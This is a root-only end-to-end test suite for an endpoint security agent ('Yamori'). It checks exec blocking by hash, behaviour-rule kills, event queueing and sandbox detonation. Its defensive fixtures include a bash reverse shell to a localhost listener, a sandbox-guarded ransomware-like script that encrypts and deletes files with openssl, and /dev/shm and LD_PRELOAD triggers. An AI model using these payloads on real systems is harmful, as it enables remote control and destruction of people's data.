// The agent issue's done-when tests, end to end: the real `yamori up` server over HTTPS, the real
// `yamori agent run` process with the real fanotify exec gate and proc connector, on the real
// kernel (root). For a shared machine the gate marks only a private tmpfs mounted here
// (--gate-mount), decision timeouts are short, and after() kills and unmounts everything.
import assert from 'node:assert/strict';
import { execFileSync, spawn, type ChildProcess } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { appendFileSync, chmodSync, copyFileSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type AddressInfo, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { defaultPolicy, type Policy } from '@yamori/protocol';
import { consoleSession, startYamori, upWithEnrolledAgent, YAMORI, type ServerProcess } from './test-support.ts';

const isRoot = process.getuid?.() === 0;
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

async function waitFor<T>(what: string, fn: () => Promise<T | undefined> | T | undefined, timeoutMs = 30_000, everyMs = 200): Promise<T> {
  const end = Date.now() + timeoutMs;
  for (;;) {
    const v = await fn();
    if (v !== undefined && v !== false) return v;
    if (Date.now() > end) throw new Error(`timed out waiting for ${what}`);
    await sleep(everyMs);
  }
}

interface Ran {
  code: number | null;
  signal: NodeJS.Signals | null;
  stderr: string;
}

/** Runs `file args…` through /bin/sh (which lives outside the gated tmpfs), never by interpolation. */
function run(script: string, args: string[], onSpawn?: (c: ChildProcess) => void): Promise<Ran> {
  return new Promise((resolve, reject) => {
    const child = spawn('/bin/sh', ['-c', script, 'sh', ...args], { stdio: ['ignore', 'ignore', 'pipe'] });
    let stderr = '';
    child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
    const timer = setTimeout(() => {
      child.kill('SIGKILL');
      reject(new Error(`timed out: ${script} ${args.join(' ')}`));
    }, 120_000);
    onSpawn?.(child);
    child.on('error', reject);
    child.on('close', (code, signal) => {
      clearTimeout(timer);
      resolve({ code, signal, stderr });
    });
  });
}
const exec1 = (bin: string, ...args: string[]) => run('"$@"', [bin, ...args]);

const sha256 = (b: Buffer) => createHash('sha256').update(b).digest('hex');

describe('agent end to end: real server, real agent process, real exec gate', { skip: isRoot ? false : 'needs root (fanotify, proc connector)' }, () => {
  let data = '';
  let stateDir = '';
  let scratch = '';
  let mounted = false;
  let server: ServerProcess | undefined;
  let agent: ChildProcess | undefined;
  let agentOut = '';
  let ca = '';
  let port = 0;
  let password = '';
  let api!: Awaited<ReturnType<typeof consoleSession>>['api'];
  let policyId = '';
  let agentId = '';
  const since = new Date(Date.now() - 1000).toISOString();

  // Distinct files: each a copy of /bin/true with its own trailing bytes, so each has its own hash.
  const bins: Record<string, { path: string; sha: string }> = {};
  const makeBin = (name: string, content?: Buffer) => {
    const path = join(scratch, name);
    mkdirSync(join(path, '..'), { recursive: true });
    if (content) writeFileSync(path, content);
    else {
      copyFileSync('/bin/true', path);
      appendFileSync(path, randomBytes(32));
    }
    chmodSync(path, 0o755);
    bins[name] = { path, sha: sha256(readFileSync(path)) };
    return bins[name];
  };

  const startAgent = () => {
    agentOut = '';
    agent = spawn(process.execPath, [YAMORI, 'agent', 'run', '--state', stateDir, '--gate-mount', scratch], { stdio: ['ignore', 'pipe', 'pipe'] });
    agent.stdout?.on('data', (d: Buffer) => (agentOut += d.toString()));
    agent.stderr?.on('data', (d: Buffer) => (agentOut += d.toString()));
    return waitFor('the agent to start its exec gate', () => (agentOut.includes('exec gate started') && agentOut.includes('agent started') ? true : undefined), 30_000, 50);
  };
  const stopAgent = async (signal: NodeJS.Signals = 'SIGTERM') => {
    const a = agent;
    agent = undefined;
    if (!a || a.exitCode !== null || a.signalCode !== null) return;
    const exited = new Promise<void>((r) => a.once('exit', () => r()));
    a.kill(signal);
    await exited;
  };
  const appliedRevision = (): number | undefined => {
    try {
      return (JSON.parse(readFileSync(join(stateDir, 'policy.json'), 'utf8')) as { revision?: number }).revision;
    } catch {
      return undefined;
    }
  };
  const deploy = async (edit: (p: Policy) => void): Promise<number> => {
    const doc = defaultPolicy();
    doc.exec = { decisionTimeoutMs: 1000, onTimeout: 'allow', failClosedPaths: [] };
    doc.telemetry.maxEventsPerSecond = 20_000;
    edit(doc);
    const rev = (await api('POST', `/policies/${policyId}/revisions`, { document: doc })).json<{ revision: number }>();
    assert.equal((await api('POST', `/policies/${policyId}/revisions/${rev.revision}/approve`)).status, 200);
    assert.equal((await api('POST', `/policies/${policyId}/revisions/${rev.revision}/deploy`)).status, 200);
    await waitFor(`the agent to apply policy revision ${rev.revision}`, () => (appliedRevision() === rev.revision ? true : undefined));
    return rev.revision;
  };
  interface EventRow {
    id: number;
    agentId: string;
    event: { event: { id: string; type: string[] }; process?: { executable?: string; args?: string[]; hash?: { sha256?: string } } };
  }
  const processEvents = async (): Promise<EventRow[]> => {
    const rows: EventRow[] = [];
    let cursor: number | null = null;
    do {
      const q: string = `/events?dataset=yamori.process&agentId=${agentId}&since=${encodeURIComponent(since)}&limit=1000${cursor ? `&cursor=${cursor}` : ''}`;
      const page = (await api('GET', q)).json<{ items: EventRow[]; nextCursor: number | null }>();
      rows.push(...page.items);
      cursor = page.nextCursor;
    } while (cursor !== null);
    return rows;
  };
  const startsOf = (rows: EventRow[], path: string) => rows.filter((r) => r.event.process?.executable === path && r.event.event.type.includes('start'));
  interface AlertRow {
    ruleId: string;
    mode: string;
    action: string;
    sha256: string | null;
    processExecutable: string | null;
    event: { yamori?: { would_have?: string; action?: string } };
  }
  const alerts = async () => (await api('GET', '/alerts?limit=200')).json<{ items: AlertRow[] }>().items;

  before(async () => {
    try {
      writeFileSync('/proc/sys/fs/fanotify/watchdog_timeout', '5');
    } catch {
      // older kernels have no watchdog
    }
    scratch = mkdtempSync(join(tmpdir(), 'yamori-e2e-gate-'));
    execFileSync('mount', ['-t', 'tmpfs', '-o', 'size=64m,mode=0755', 'yamori-e2e-agent', scratch]);
    mounted = true;
    data = mkdtempSync(join(tmpdir(), 'yamori-e2e-data-'));
    stateDir = mkdtempSync(join(tmpdir(), 'yamori-e2e-agent-'));
    const up = await upWithEnrolledAgent({ data, stateDir, tokenName: 'e2e-agent' });
    ({ server, ca, api, agentId, policyId } = up);
    port = Number(new URL(up.server.url).port);
    password = up.server.password ?? '';
    await startAgent();
  });

  after(async () => {
    if (agent) {
      agent.kill('SIGCONT');
      await stopAgent('SIGKILL');
    }
    await server?.stop();
    if (mounted) {
      try {
        execFileSync('umount', ['-l', scratch]);
      } catch {
        // already gone
      }
    }
    for (const d of [scratch, data, stateDir]) if (d) rmSync(d, { recursive: true, force: true });
  });

  it('block mode: a blocklisted file fails with EPERM and an alert reaches the server; an excluded path runs silently; a file modified after being allowed is checked again', async () => {
    const bad = makeBin('bad');
    const excluded = makeBin('excluded/bad', readFileSync(bad.path)); // same blocklisted content
    const good = makeBin('good');
    const changing = makeBin('changing');
    await deploy((p) => {
      p.modules.malware.mode = 'block';
      p.blocklist = [{ sha256: bad.sha }];
      p.exclusions = [
        { id: 'e2e-path', kind: 'path', value: `${scratch}/excluded/**` },
        { id: 'e2e-hash', kind: 'sha256', value: changing.sha },
      ];
    });

    const denied = await exec1(bad.path);
    assert.equal(denied.code, 126, `exec of a blocklisted file is refused (sh: 126), got ${denied.code}: ${denied.stderr}`);
    assert.match(denied.stderr, /not permitted/i, 'execve failed with EPERM');
    assert.equal((await exec1(good.path)).code, 0, 'an unknown clean file runs');
    assert.equal((await exec1(excluded.path)).code, 0, 'the same content under an excluded path runs');

    const alert = await waitFor('the deny alert at the server', async () =>
      (await alerts()).find((a) => a.sha256 === bad.sha && a.processExecutable === bad.path),
    );
    assert.equal(alert.mode, 'block');
    assert.equal(alert.action, 'deny_exec');
    assert.equal(alert.ruleId, 'yamori.blocklist');

    // allowed (excluded by hash: the kernel may remember it), twice; then rewritten in place with
    // blocklisted content: the kernel must ask again, and the new content is refused
    assert.equal((await exec1(changing.path)).code, 0);
    // proof that the kernel remembers it: with the agent frozen (gate thread included), it still runs
    agent?.kill('SIGSTOP');
    try {
      const r = await Promise.race([exec1(changing.path), sleep(5000).then(() => 'held' as const)]);
      assert.notEqual(r, 'held', 'the allowed, unmodified file is answered by the kernel (ignore mark) without the agent');
      assert.equal(r === 'held' ? -1 : r.code, 0);
    } finally {
      agent?.kill('SIGCONT');
    }
    writeFileSync(changing.path, readFileSync(bad.path));
    const again = await exec1(changing.path);
    assert.equal(again.code, 126, `the modified file was checked again and refused: ${again.stderr}`);

    await sleep(1500); // let any alert about the excluded path arrive, if there were one
    assert.equal((await alerts()).filter((a) => a.processExecutable === excluded.path).length, 0, 'the excluded path raised no alert');
  });

  it('monitor mode: the blocklisted file runs and a "would have blocked" alert reaches the server', async () => {
    const bad = makeBin('bad-monitor');
    await deploy((p) => {
      p.modules.malware.mode = 'monitor';
      p.blocklist = [{ sha256: bad.sha }];
    });
    assert.equal((await exec1(bad.path)).code, 0, 'monitor mode stops nothing');
    // (the behaviour rule for programs run from /tmp alerts on the same file: pick the blocklist's alert)
    const alert = await waitFor('the would-have alert at the server', async () =>
      (await alerts()).find((a) => a.sha256 === bad.sha && a.ruleId === 'yamori.blocklist'),
    );
    assert.equal(alert.mode, 'monitor');
    assert.equal(alert.event.yamori?.would_have, 'deny_exec');
  });

  // Behaviour rules (Yamori's Sigma pack) act after a program started: in block mode the agent kills
  // the process (tree) through a pidfd, in monitor mode the same actions run and "would have" alerts arrive.
  const REVERSE_SHELL_RULE = '21fafb3a-dbc5-4984-8ee1-7354007e6ddb';
  const DEV_SHM_RULE = (/^id: (\S+)$/m.exec(readFileSync(new URL('../../../packages/detection/rules/yamori/exec_from_dev_shm.yml', import.meta.url), 'utf8')) ?? [])[1] ?? '';
  const LD_PRELOAD_RULE = '2070309c-7498-4afd-81cf-384ed48e0a29';
  /** A reverse shell to a listener on 127.0.0.1; resolves with how the shell ended and whether it connected. */
  const reverseShell = async (lifeMs: number) => {
    const accepted: Socket[] = [];
    const listener = createServer((sock) => {
      connected = true;
      accepted.push(sock);
      sock.on('error', () => undefined);
    });
    let connected = false;
    await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r));
    const lport = (listener.address() as AddressInfo).port;
    try {
      const shell = spawn('/bin/bash', ['-c', `bash -i >& /dev/tcp/127.0.0.1/${lport} 0>&1`], { stdio: 'ignore', detached: true });
      const ended = new Promise<{ code: number | null; signal: NodeJS.Signals | null }>((r) => shell.once('exit', (code, signal) => r({ code, signal })));
      const outcome = await Promise.race([ended, sleep(lifeMs).then(() => 'alive' as const)]);
      if (outcome === 'alive') {
        process.kill(-(shell.pid ?? 0), 'SIGKILL'); // its own process group (detached)
        await ended;
      }
      return { outcome, connected };
    } finally {
      // `bash -i` puts itself in a process group of its own, out of reach of the kill above: the
      // end of its connection ends it (and an open socket would keep this test file running)
      for (const sock of accepted) sock.destroy();
      listener.close();
    }
  };
  const devShmSleeper = () => {
    const path = `/dev/shm/yamori-e2e-${randomBytes(4).toString('hex')}`;
    copyFileSync('/bin/sleep', path);
    chmodSync(path, 0o755);
    return path;
  };
  const runFor = (file: string, args: string[], env: NodeJS.ProcessEnv, lifeMs: number) =>
    new Promise<{ code: number | null; signal: NodeJS.Signals | null } | 'alive'>((resolve) => {
      const c = spawn(file, args, { stdio: 'ignore', env });
      const timer = setTimeout(() => {
        c.kill('SIGKILL');
        resolve('alive');
      }, lifeMs);
      c.once('exit', (code, signal) => {
        clearTimeout(timer);
        resolve({ code, signal });
      });
    });

  it('behaviour, block mode: a reverse shell is killed and alerted, a program from /dev/shm is killed, LD_PRELOAD injection is detected', async () => {
    await deploy((p) => {
      p.modules.behavior.mode = 'block';
    });
    const shell = await reverseShell(15_000);
    assert.notEqual(shell.outcome, 'alive', 'the reverse shell was stopped');
    assert.equal(shell.outcome === 'alive' ? null : shell.outcome.signal, 'SIGKILL', 'killed by the agent');
    const rs = await waitFor('the reverse-shell alert', async () => (await alerts()).find((a) => a.ruleId === REVERSE_SHELL_RULE && a.mode === 'block'));
    assert.equal(rs.action, 'kill_tree');

    const shm = devShmSleeper();
    try {
      const r = await runFor(shm, ['30'], {}, 15_000);
      assert.notEqual(r, 'alive', 'the /dev/shm program was stopped');
      assert.equal(r === 'alive' ? null : r.signal, 'SIGKILL');
      const a = await waitFor('the /dev/shm alert', async () => (await alerts()).find((x) => x.ruleId === DEV_SHM_RULE && x.mode === 'block'));
      assert.equal(a.action, 'kill_process');
      assert.equal(a.processExecutable, shm);
    } finally {
      rmSync(shm, { force: true });
    }

    const pre = await runFor('/bin/sleep', ['1'], { LD_PRELOAD: '/nonexistent/libyamori-e2e-hook.so' }, 15_000);
    assert.deepEqual(pre, { code: 0, signal: null }, 'an alert-only rule stops nothing');
    const ld = await waitFor('the LD_PRELOAD alert', async () => (await alerts()).find((x) => x.ruleId === LD_PRELOAD_RULE && x.mode === 'block'));
    assert.equal(ld.processExecutable, '/usr/bin/sleep');
    // a program that is gone before /proc/<pid>/environ can be read: the exec gate read its
    // LD_PRELOAD from the execve arguments while the exec was held
    const quick = makeBin('preloaded-true');
    assert.deepEqual(await runFor(quick.path, [], { LD_PRELOAD: '/nonexistent/libyamori-e2e-quick.so' }, 15_000), { code: 0, signal: null });
    const quickAlert = await waitFor('the LD_PRELOAD alert for a short-lived program', async () =>
      (await alerts()).find((x) => x.ruleId === LD_PRELOAD_RULE && x.processExecutable === quick.path),
    );
    assert.equal(quickAlert.mode, 'block');
  });

  it('behaviour, monitor mode: the same actions run and "would have" alerts reach the server', async () => {
    await deploy((p) => {
      p.modules.behavior.mode = 'monitor';
    });
    const shell = await reverseShell(3000);
    assert.equal(shell.outcome, 'alive', 'monitor mode kills nothing');
    assert.ok(shell.connected, 'the shell reached its listener');
    const rs = await waitFor('the would-have alert', async () => (await alerts()).find((a) => a.ruleId === REVERSE_SHELL_RULE && a.mode === 'monitor'));
    assert.equal(rs.action, 'would_kill_tree');
    assert.equal(rs.event.yamori?.would_have, 'kill_tree');

    const shm = devShmSleeper();
    try {
      assert.deepEqual(await runFor(shm, ['1'], {}, 15_000), { code: 0, signal: null });
      const a = await waitFor('the /dev/shm would-have alert', async () => (await alerts()).find((x) => x.ruleId === DEV_SHM_RULE && x.mode === 'monitor'));
      assert.equal(a.action, 'would_kill_process');
    } finally {
      rmSync(shm, { force: true });
    }
  });

  it('a hash imported into intelligence as malicious is blocked at exec in block mode within seconds, without restarting anything', async () => {
    const later = makeBin('later-known-bad');
    await deploy((p) => {
      p.modules.malware.mode = 'block';
    });
    assert.equal((await exec1(later.path)).code, 0, 'unknown everywhere: it runs (and the kernel may remember it)');
    const keys = JSON.parse(readFileSync(join(data, 'intel', 'local-keys.json'), 'utf8')) as { adminKey: string };
    const intelUrl = /Threat intelligence: (\S+)/.exec(server?.output() ?? '')?.[1] ?? '';
    const importedAt = Date.now();
    const res = await fetch(`${intelUrl}/api/intel/v1/feeds/import?format=list&source=e2e-feed&type=sha256&verdict=malicious&confidence=90`, {
      method: 'POST',
      headers: { authorization: `Bearer ${keys.adminKey}`, 'content-type': 'application/octet-stream' },
      body: `${later.sha}\n`,
    });
    assert.equal(res.status, 200, await res.text());
    const blockedAt = await waitFor('the exec to be refused after the import', async () => ((await exec1(later.path)).code === 126 ? Date.now() : undefined), 30_000, 100);
    console.log(`# an intelligence import blocked the file at exec ${blockedAt - importedAt} ms later`);
    const alert = await waitFor('the deny alert at the server', async () => (await alerts()).find((a) => a.sha256 === later.sha && a.action === 'deny_exec'));
    assert.equal(alert.mode, 'block');
  });

  it('1,000 short-lived processes in a tight loop: 1,000 process-start events with argv and hash at the server', async () => {
    const loop = makeBin('loop');
    const started = Date.now();
    const r = await run('i=0; while [ "$i" -lt 1000 ]; do "$1" "n-$i" || exit 1; i=$((i+1)); done', [loop.path]);
    assert.equal(r.code, 0, r.stderr);
    const ms = Date.now() - started;
    let seen = 0;
    const starts = await waitFor(
      '1000 process-start events at the server',
      async () => {
        const s = startsOf(await processEvents(), loop.path);
        seen = s.length;
        return s.length >= 1000 ? s : undefined;
      },
      90_000,
      1000,
    ).catch((e: unknown) => {
      console.log(`# start events seen: ${seen}; agent: ${agentOut.split('\n').slice(-8).join(' | ')}`);
      throw e;
    });
    assert.equal(starts.length, 1000, 'exactly one start event per exec');
    const argv = new Set(starts.map((e) => JSON.stringify(e.event.process?.args)));
    assert.equal(argv.size, 1000, 'each event carries its own argv');
    for (let i = 0; i < 1000; i += 97) assert.ok(argv.has(JSON.stringify([loop.path, `n-${i}`])), `argv of exec ${i}`);
    assert.ok(starts.every((e) => e.event.process?.hash?.sha256 === loop.sha), 'every event carries the file hash');
    console.log(`# 1000 execs through the gate in ${ms} ms (incl. sh loop)`);
  });

  it('server killed: events are queued; after the agent restarts and the server comes back, all arrive exactly once', async () => {
    const offline = makeBin('offline');
    // the server dies (SIGKILL: no graceful close, an upload may be cut mid-batch)
    const dying = server;
    server = undefined;
    if (dying && dying.child.exitCode === null) {
      const gone = new Promise((r) => dying.child.once('exit', r));
      dying.child.kill('SIGKILL');
      await gone;
    }
    for (let i = 0; i < 25; i++) assert.equal((await exec1(offline.path, `off-${i}`)).code, 0, 'execs run while the server is away');
    // the proc connector's exec events go through the durable queue: wait until they are on disk
    await waitFor(
      'the queued events on disk',
      () => {
        const out = execFileSync(process.execPath, [YAMORI, 'agent', 'status', '--state', stateDir, '--json'], { encoding: 'utf8' });
        return (JSON.parse(out) as { queueDepth: number | null }).queueDepth! >= 25 ? true : undefined;
      },
      20_000,
    );
    await stopAgent('SIGTERM');
    await startAgent(); // offline start: the queue is reopened from disk
    for (let i = 25; i < 30; i++) assert.equal((await exec1(offline.path, `off-${i}`)).code, 0);
    await sleep(500);
    server = await startYamori(['up', '--data', data, '--port', String(port)]);
    const s = await consoleSession(server.url, ca, 'admin@yamori.local', password);
    api = s.api;
    const starts = await waitFor(
      'the queued events at the server',
      async () => {
        const got = startsOf(await processEvents(), offline.path);
        return got.length >= 30 ? got : undefined;
      },
      120_000, // the agent's check-in backoff (jittered, doubling) decides when it sees the server again
      1000,
    );
    await sleep(2000); // anything sent twice would have arrived by now
    const final = startsOf(await processEvents(), offline.path);
    assert.equal(final.length, 30, 'each exec arrived exactly once');
    assert.equal(new Set(final.map((e) => e.event.event.id)).size, 30, 'no event id twice');
    assert.deepEqual(new Set(final.map((e) => e.event.process?.args?.[1])), new Set(Array.from({ length: 30 }, (_, i) => `off-${i}`)));
    assert.ok(starts.length >= 30);
  });

  it('killing the agent with SIGKILL while execs are pending never leaves a process blocked', async () => {
    const held = makeBin('held');
    const a = agent;
    assert.ok(a?.pid);
    // freeze the agent (its gate thread too: no fail rule fires), then exec: the kernel holds them
    a.kill('SIGSTOP');
    const pending = Array.from({ length: 5 }, (_, i) => exec1(held.path, `held-${i}`));
    let finished = 0;
    for (const p of pending) void p.then(() => finished++);
    await sleep(700);
    assert.equal(finished, 0, 'the execs are held by the frozen agent');
    await stopAgent('SIGKILL');
    const t0 = Date.now();
    const results = await Promise.all(pending);
    assert.ok(results.every((r) => r.code === 0), JSON.stringify(results));
    console.log(`# ${results.length} held execs completed ${Date.now() - t0} ms after SIGKILL of the agent`);
    // and with no agent at all, execs on the formerly gated mount run freely
    assert.equal((await exec1(held.path)).code, 0);
  });
  // Last: once a file is known (here: benign, after its detonation), the kernel answers its execs
  // itself and the earlier tests' exec capture would no longer see them.
  it('an unknown file is uploaded, detonated in the sandbox and, found malicious, refused at its next exec', async () => {
    // Ransomware-like only inside the sandbox (its decoy home and /sandbox mount); anywhere else it
    // exits at once, so running it on this host touches nothing.
    const script = makeBin(
      'invoice-tool',
      Buffer.from(
        [
          '#!/bin/sh',
          '[ "$HOME" = /home/alice ] && [ -d /sandbox ] || exit 0',
          'cd "$HOME" || exit 0',
          'for f in $(find . -type f -size +1k); do',
          '  openssl enc -aes-256-cbc -pbkdf2 -pass pass:e2e -in "$f" -out "$f.locked" 2>/dev/null && rm -f "$f"',
          'done',
          `# ${randomBytes(8).toString('hex')}`,
          '',
        ].join('\n'),
      ),
    );
    if (!agent || agent.exitCode !== null || agent.signalCode !== null) await startAgent(); // the SIGKILL test left none
    await deploy((p) => {
      p.modules.malware.mode = 'block';
      p.upload.consent = true;
    });
    assert.equal((await exec1(script.path)).code, 0, 'unknown everywhere: it runs');
    const ranAt = Date.now();
    const refusedAt = await waitFor(
      'the exec to be refused once the sandbox found the file malicious',
      async () => ((await exec1(script.path)).code === 126 ? Date.now() : undefined),
      90_000,
      500,
    ).catch(async (e: unknown) => {
      // What the loop did, so a failure says where it stopped.
      const audit = (await api('GET', '/audit?limit=30')).json<{ items: Array<{ action: string; target: string; after: unknown }> }>();
      console.log('# audit:', JSON.stringify(audit.items.filter((a) => a.action.startsWith('sample') || a.action.startsWith('retro')).slice(0, 5)));
      console.log('# agent:', agentOut.split('\n').filter((l) => /sample|upload|lookup|warn|error/i.test(l)).slice(-15).join('\n'));
      console.log('# server:', (server?.output() ?? '').split('\n').filter((l) => /warn|error|sample/i.test(l)).slice(-15).join('\n'));
      throw e;
    });
    console.log(`# unknown file → upload → sandbox → verdict → refused at exec: ${refusedAt - ranAt} ms`);
    const audit = (await api('GET', '/audit?action=sample.uploaded')).json<{ items: Array<{ target: string }> }>();
    assert.ok(audit.items.some((a) => a.target === `sha256:${script.sha}`), 'the upload is in the audit log');
  });
});
